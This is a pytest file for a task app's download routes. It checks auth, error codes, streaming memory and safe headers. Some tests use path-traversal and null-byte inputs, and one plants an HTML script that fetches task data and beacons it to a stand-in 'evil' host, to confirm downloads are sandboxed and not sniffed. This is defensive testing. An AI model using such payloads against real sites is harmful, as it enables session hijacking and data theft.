"""The download routes of the stream app (functions/stream/downloads.py) over real HTTP, from a file store
and from moto's S3 server over HTTP, against a real nats-server's registry.

What a client relies on: the stored bytes exactly, the right type, a read token
needed (401 without, 403 for a write method), 400 naming the field for a bad
id or name, 404 saying what is missing, 503 when the store does not answer,
and memory that stays far below the size of what is streamed.
"""

from __future__ import annotations

import gzip
import hashlib
import io
import json
import os
import tarfile
import tracemalloc

import httpx
import pytest

from agent import changes, contract
from agent.storage import open_store
from functions.core.registry import new_record
from tests.conftest import free_port
from tests.functions.stream.support import AUTH, READ_AUTH

pytestmark = pytest.mark.timeout(180)

MB = 1 << 20


def tar_gz(members: dict[str, bytes]) -> bytes:
    """A workspace archive the way the snapshotter writes one (PAX, gzip), holding `members`."""
    raw = io.BytesIO()
    with tarfile.open(fileobj=raw, mode="w:gz", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return raw.getvalue()


PATCH = b"diff --git a/x b/x\nnew file mode 100644\n--- /dev/null\n+++ b/x\n@@ -0,0 +1 @@\n+caf\xc3\xa9 \x1b[31m\n"
SUMMARY = json.dumps({"files": [{"path": "x", "status": "added", "added_lines": 1, "deleted_lines": 0}]}).encode()
RESULT = json.dumps({"outcome": "done", "changes_patch_key": "jobs/t/final/changes.patch"}).encode()
OUTPUT = b"line\n" * 5000 + b"the end: error here\n"
CHECKPOINTS = ("20260101T000000.000001Z.db", "20260101T000500.000002Z.db")


def store_a_finished_task(store, task_id: str) -> dict[str, bytes]:
    """The final set and two snapshots of `task_id` in the store; {route suffix: bytes}."""
    archive = tar_gz({"repo/README.md": b"hello\n", contract.output_file("call-1"): OUTPUT, "repo/after.txt": b"after\n"})
    files = {
        "changes.patch": (changes.patch_key(task_id), PATCH),
        "changes.json": (changes.summary_key(task_id), SUMMARY),
        "workspace.tar.gz": (contract.final_archive_key(task_id), archive),
        "result.json": (contract.final_result_key(task_id), RESULT),
    }
    for name in CHECKPOINTS:
        files[f"snapshots/{name}"] = (contract.checkpoints_prefix(task_id) + name, os.urandom(3000) + name.encode())
    for key, data in files.values():
        store.put_bytes(key, data)
    return {route: data for route, (_key, data) in files.items()}


async def register(bus, task_id: str) -> None:
    await bus.registry.create(task_id, new_record(task_id, task=None, spec_hash=None, now=contract.iso_utc()))


@pytest.fixture(params=["file", "s3"])
def store_url(request, tmp_path):
    if request.param == "file":
        return (tmp_path / "store").as_uri()
    return request.getfixturevalue("s3_store_url")


async def get(url: str, headers=READ_AUTH) -> httpx.Response:
    async with httpx.AsyncClient(timeout=60) as client:
        return await client.get(url, headers=headers)


async def test_each_file_comes_out_byte_exact_with_its_type(bus, serve, store_url):
    server = await serve(store=store_url)
    stored = store_a_finished_task(open_store(store_url), "t-done")
    await register(bus, "t-done")
    base = f"{server.url}/api/tasks/t-done"
    types = {"changes.patch": "text/x-diff", "changes.json": "application/json", "result.json": "application/json", "workspace.tar.gz": "application/gzip"}
    for route, media_type in types.items():
        answer = await get(f"{base}/{route}")
        assert answer.status_code == 200, answer.text
        assert answer.content == stored[route], route
        assert answer.headers["content-type"].startswith(media_type)
        assert int(answer.headers["content-length"]) == len(stored[route])
    attachment = (await get(f"{base}/workspace.tar.gz")).headers["content-disposition"]
    assert attachment == 'attachment; filename="t-done-workspace.tar.gz"'

    listing = (await get(f"{base}/snapshots")).json()
    assert listing == [
        {"name": n, "key": f"jobs/t-done/checkpoints/{n}", "size": len(stored[f"snapshots/{n}"])} for n in CHECKPOINTS
    ]
    for name in CHECKPOINTS:
        answer = await get(f"{base}/snapshots/{name}")
        assert answer.status_code == 200 and answer.content == stored[f"snapshots/{name}"]
        assert answer.headers["content-disposition"] == f'attachment; filename="t-done-{name}"'

    output = await get(f"{base}/outputs/call-1")
    assert output.status_code == 200, output.text
    assert output.content == OUTPUT
    assert output.headers["content-type"] == "text/plain; charset=utf-8"


async def test_a_read_token_is_needed_and_enough(bus, serve, tmp_path):
    store_url = (tmp_path / "store").as_uri()
    server = await serve(store=store_url)
    stored = store_a_finished_task(open_store(store_url), "t-auth")
    await register(bus, "t-auth")
    url = f"{server.url}/api/tasks/t-auth/changes.patch"
    assert (await get(url, headers={})).status_code == 401
    assert (await get(url, headers={"Authorization": "Bearer dy_not-a-token"})).status_code == 401
    assert (await get(url, headers=AUTH)).content == stored["changes.patch"]  # a write token may read too
    async with httpx.AsyncClient(timeout=30) as client:
        refused = await client.post(url, headers=READ_AUTH)
    assert refused.status_code == 403, refused.text


@pytest.mark.parametrize(
    ("path", "field"),
    [
        ("/api/tasks/Bad_Id/changes.patch", "task_id"),
        ("/api/tasks/t-ok/snapshots/..%2Ffinal%2Fresult.json", "name"),
        ("/api/tasks/t-ok/snapshots/a%2F..%2F..%2Ffinal%2Fresult.json", "name"),
        ("/api/tasks/t-ok/snapshots/%2E%2E", "name"),
        ("/api/tasks/t-ok/snapshots/x%00y", "name"),
        ("/api/tasks/t-ok/outputs/" + "a" * 257, "call_id"),
        ("/api/tasks/t-ok/outputs/a%2Fb", "call_id"),
        ("/api/tasks/t-ok/outputs/a%1Bb", "call_id"),  # (a newline matches no route at all)
    ],
)
async def test_a_bad_id_or_name_is_a_400_naming_the_field(bus, serve, tmp_path, path, field):
    server = await serve(store=(tmp_path / "store").as_uri())
    await register(bus, "t-ok")  # (HTTP clients resolve a literal `..` segment themselves: sent encoded here)
    answer = await get(server.url + path)
    assert answer.status_code == 400, (path, answer.status_code, answer.text)
    assert answer.json()["field"] == field


async def test_what_is_missing_is_a_404_that_says_what(bus, serve, tmp_path):
    store_url = (tmp_path / "store").as_uri()
    server = await serve(store=store_url)
    store_a_finished_task(open_store(store_url), "t-unregistered")  # stored, but the registry does not know it
    await register(bus, "t-running")  # registered, nothing stored yet
    store_a_finished_task(open_store(store_url), "t-done")
    await register(bus, "t-done")
    cases = {
        "/api/tasks/t-unregistered/changes.patch": ("task_id", "no task"),
        "/api/tasks/t-running/changes.patch": ("task_id", "available once the task has finished"),
        "/api/tasks/t-running/workspace.tar.gz": ("task_id", "available once the task has finished"),
        "/api/tasks/t-running/outputs/call-1": ("task_id", "available once the task has finished"),
        "/api/tasks/t-done/outputs/call-2": ("call_id", "kept no output"),
        "/api/tasks/t-done/outputs/after": ("call_id", "kept no output"),  # repo/after.txt is not an output
        "/api/tasks/t-done/outputs/%2E%2E": ("call_id", "kept no output"),  # file-safe: .dockyard/outputs/_..log
        "/api/tasks/t-done/outputs/" + "a" * 200: ("call_id", "kept no output"),  # any id a model gives, cut to a file name
        "/api/tasks/t-done/snapshots/20990101T000000.000000Z.db": ("name", "has no snapshot"),
    }
    for path, (field, words) in cases.items():
        answer = await get(server.url + path)
        assert answer.status_code == 404, (path, answer.text)
        assert answer.json()["field"] == field and words in answer.json()["error"], (path, answer.json())
    assert (await get(f"{server.url}/api/tasks/t-running/snapshots")).json() == []


async def test_an_unreachable_store_is_a_503(bus, serve, monkeypatch):
    monkeypatch.setenv("DOCKYARD_S3_ENDPOINT", f"http://127.0.0.1:{free_port()}")  # nothing listens there
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")
    server = await serve(store="s3://nowhere/tasks")
    await register(bus, "t-away")
    for route in ("changes.patch", "snapshots", "outputs/call-1"):
        answer = await get(f"{server.url}/api/tasks/t-away/{route}")
        assert answer.status_code == 503, (route, answer.text)
        assert "object store" in answer.json()["error"]


async def test_an_archive_that_is_not_one_is_refused_clearly(bus, serve, tmp_path):
    store_url = (tmp_path / "store").as_uri()
    server = await serve(store=store_url)
    open_store(store_url).put_bytes(contract.final_archive_key("t-broken"), b"not a gzip stream at all")
    await register(bus, "t-broken")
    answer = await get(f"{server.url}/api/tasks/t-broken/outputs/call-1")
    assert answer.status_code == 422 and "cannot be read" in answer.json()["error"]


# --- memory: streamed, never held ------------------------------------------------------------


async def peak_while_downloading(url: str) -> tuple[int, str, int]:
    """(peak traced bytes above the start, sha256 of the body, its length): client and server run in this process."""
    digest, length = hashlib.sha256(), 0
    tracemalloc.start()
    try:
        start, _ = tracemalloc.get_traced_memory()
        tracemalloc.reset_peak()
        async with httpx.AsyncClient(timeout=120) as client, client.stream("GET", url, headers=READ_AUTH) as response:
            assert response.status_code == 200
            async for chunk in response.aiter_raw():
                digest.update(chunk)
                length += len(chunk)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return peak - start, digest.hexdigest(), length


async def test_a_large_object_streams_in_bounded_memory(bus, serve, tmp_path):
    size = 200 * MB
    root = tmp_path / "store"
    key = contract.final_archive_key("t-big")
    path = root.joinpath(*key.split("/"))
    path.parent.mkdir(parents=True)
    with open(path, "wb") as f:  # sparse, with a few marks so order and content are checked too
        for i in range(0, size, 16 * MB):
            f.seek(i)
            f.write(i.to_bytes(8, "big") * 64)
        f.truncate(size)
    expected = hashlib.sha256()
    with open(path, "rb") as f:
        while chunk := f.read(4 * MB):
            expected.update(chunk)
    server = await serve(store=root.as_uri())
    await register(bus, "t-big")

    peak, sha, length = await peak_while_downloading(f"{server.url}/api/tasks/t-big/workspace.tar.gz")
    assert (length, sha) == (size, expected.hexdigest())
    assert peak < 24 * MB, f"peak {peak / MB:.1f} MB while streaming {size / MB:.0f} MB"


async def test_a_large_output_streams_out_of_the_archive_in_bounded_memory(bus, serve, tmp_path):
    size = 128 * MB
    archive = tmp_path / "workspace.tar.gz"
    pattern = b"0123456789abcdef" * 4096
    with gzip.open(archive, "wb", compresslevel=1) as gz, tarfile.open(fileobj=gz, mode="w|", format=tarfile.PAX_FORMAT) as tar:
        info = tarfile.TarInfo(contract.output_file("call-big"))
        info.size = size

        class Pattern(io.RawIOBase):
            left = size

            def readinto(self, b):
                n = min(len(b), self.left, len(pattern))
                b[:n] = pattern[:n]
                self.left -= n
                return n

        tar.addfile(info, Pattern())
    store_url = (tmp_path / "store").as_uri()
    open_store(store_url).put_file(contract.final_archive_key("t-out"), archive)
    server = await serve(store=store_url)
    await register(bus, "t-out")

    peak, sha, length = await peak_while_downloading(f"{server.url}/api/tasks/t-out/outputs/call-big")
    expected = hashlib.sha256()
    for _ in range(size // len(pattern)):
        expected.update(pattern)
    assert (length, sha) == (size, expected.hexdigest())
    assert peak < 24 * MB, f"peak {peak / MB:.1f} MB while streaming a {size / MB:.0f} MB output"


def open_paths() -> set[str]:
    """What this process (client and server both) holds open."""
    found = set()
    for fd in os.listdir("/proc/self/fd"):
        try:
            found.add(os.readlink(f"/proc/self/fd/{fd}"))
        except OSError:
            pass
    return found


async def test_the_object_is_closed_when_the_client_goes_away_or_asks_only_for_headers(bus, serve, tmp_path):
    from tests.conftest import eventually_async

    root = tmp_path / "store"
    key = contract.final_archive_key("t-gone")
    path = root.joinpath(*key.split("/"))
    path.parent.mkdir(parents=True)
    with open(path, "wb") as f:
        f.truncate(64 * MB)
    server = await serve(store=root.as_uri())
    await register(bus, "t-gone")
    url = f"{server.url}/api/tasks/t-gone/workspace.tar.gz"

    async with httpx.AsyncClient(timeout=30) as client:
        head = await client.head(url, headers=READ_AUTH)
        assert head.status_code == 200 and head.headers["content-length"] == str(64 * MB) and head.content == b""
        await eventually_async(lambda: str(path) not in open_paths(), "the object closed after a HEAD")

        async with client.stream("GET", url, headers=READ_AUTH) as response:
            async for _chunk in response.aiter_raw():
                assert str(path) in open_paths()  # being read
                break  # and the client hangs up with most of it unread
    await eventually_async(lambda: str(path) not in open_paths(), "the object closed after the client went away")


async def test_what_an_agent_wrote_is_never_served_as_a_page_of_the_cockpit_s_origin(bus, serve, tmp_path):
    """The attack: an agent makes its output (or a patch, or its result) an HTML page with a script, hoping a
    person opens the "full output" link: same origin as the cockpit, whose cookie holds their session.
    Every download is typed as what it is, never sniffed (nosniff), and sandboxed by CSP: no script, no origin."""
    store_url = (tmp_path / "store").as_uri()
    server = await serve(store=store_url)
    page = b"<!doctype html><script>fetch('/api/tasks').then(r => r.text()).then(t => navigator.sendBeacon('//evil', t))</script>"
    store = open_store(store_url)
    store_a_finished_task(store, "t-evil")
    store.put_bytes(contract.final_archive_key("t-evil"), tar_gz({contract.output_file("call-1"): page}))
    store.put_bytes(changes.patch_key("t-evil"), page)
    await register(bus, "t-evil")
    base = f"{server.url}/api/tasks/t-evil"
    for route in ("outputs/call-1", "changes.patch", "changes.json", "result.json", "workspace.tar.gz", f"snapshots/{CHECKPOINTS[0]}"):
        answer = await get(f"{base}/{route}")
        assert answer.status_code == 200, (route, answer.text)
        assert "html" not in answer.headers["content-type"], route
        assert answer.headers["x-content-type-options"] == "nosniff", route
        assert answer.headers["content-security-policy"] == "sandbox; default-src 'none'", route
